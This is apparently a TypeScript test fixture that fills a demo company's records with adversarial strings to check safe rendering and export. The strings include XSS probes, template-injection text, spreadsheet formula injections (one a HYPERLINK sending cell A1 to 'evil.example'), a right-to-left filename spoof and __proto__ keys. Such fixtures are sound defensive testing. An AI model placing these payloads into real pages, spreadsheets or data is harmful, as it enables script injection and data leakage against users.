/** Companies for a demo's bad days: nothing there at all, and texts that try to be something else. */
import type { DatasetRecords } from '../contract/records.js';
import { smallCompany } from './small-company.js';

/** The day before the first import: nobody, nothing, and no day up to which anything is known. */
export const emptyCompany: DatasetRecords = {
  name: 'Empty & Daughters',
  timeZone: 'America/New_York',
  people: [],
  activity: [],
};

/** All harmless where texts are shown as texts. Nothing here leads anywhere. */
export const HOSTILE_TEXTS = {
  script: '<script>document.title = "owned"</script>',
  image: '<img src=x onerror="document.title = `owned`">',
  template: '${1 + 1} {{7 * 7}} </textarea><svg onload=1>',
  formula: '=HYPERLINK("https://evil.example/?" & A1, "click me")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  quotes: 'He said "so, what?",\r\nand; left',
  rightToLeft: 'שרה \u202Egpj.exe\u202C مرحبا',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 Ünïcödé',
  zeroWidth: 'Ze\u200Bro\u200D Wi\uFEFFdth\u00A0',
  long: 'Longname '.repeat(34).slice(0, 300),
  proto: '__proto__',
} as const;

const texts = Object.values(HOSTILE_TEXTS);

/** Old ids -> hostile ones: objects that are used as maps stumble here. */
const people = new Map([['gus', '__proto__'], ['kit', 'constructor'], ['cy', '=1+1']]); // prettier-ignore
const groups = new Map([['vienna', '__proto__'], ['amer', '<b>toString</b>']]); // prettier-ignore
const accounts = new Map([['acme', HOSTILE_TEXTS.script], ['birch', '__proto__'], ['cedar', HOSTILE_TEXTS.long]]); // prettier-ignore

const renamed = (map: ReadonlyMap<string, string>, id: string) => map.get(id) ?? id;
const renamedOr = (map: ReadonlyMap<string, string>, id: string | null | undefined) =>
  id == null ? id : renamed(map, id);
const whose = <Row extends { person: string }>(rows: readonly Row[] = []): Row[] =>
  rows.map((row) => ({ ...row, person: renamed(people, row.person) }));

/** The small company with its figures, under names that should do nothing. */
export const hostileCompany: DatasetRecords = {
  ...smallCompany,
  name: HOSTILE_TEXTS.image,
  people: smallCompany.people!.map((row, i) => ({
    ...row,
    id: renamed(people, row.id),
    name: texts[i % texts.length],
    title: texts[(i + 5) % texts.length],
    role: row.role && texts[(i + 9) % texts.length],
    manager: renamedOr(people, row.manager),
  })),
  statuses: whose(smallCompany.statuses),
  groups: smallCompany.groups!.map((row, i) => ({
    ...row,
    id: renamed(groups, row.id),
    parent: renamedOr(groups, row.parent),
    name: texts[(i + 10) % texts.length],
  })),
  memberships: whose(smallCompany.memberships).map((row) => ({ ...row, group: renamed(groups, row.group) })),
  seats: whose(smallCompany.seats),
  activity: whose(smallCompany.activity).map((row) => ({
    ...row,
    account: renamedOr(accounts, row.account),
  })),
  personas: smallCompany.personas!.map((row, i) => ({ ...row, name: texts[i] })),
  consents: whose(smallCompany.consents),
  alert_subscriptions: whose(smallCompany.alert_subscriptions),
  snapshots: whose(smallCompany.snapshots),
};
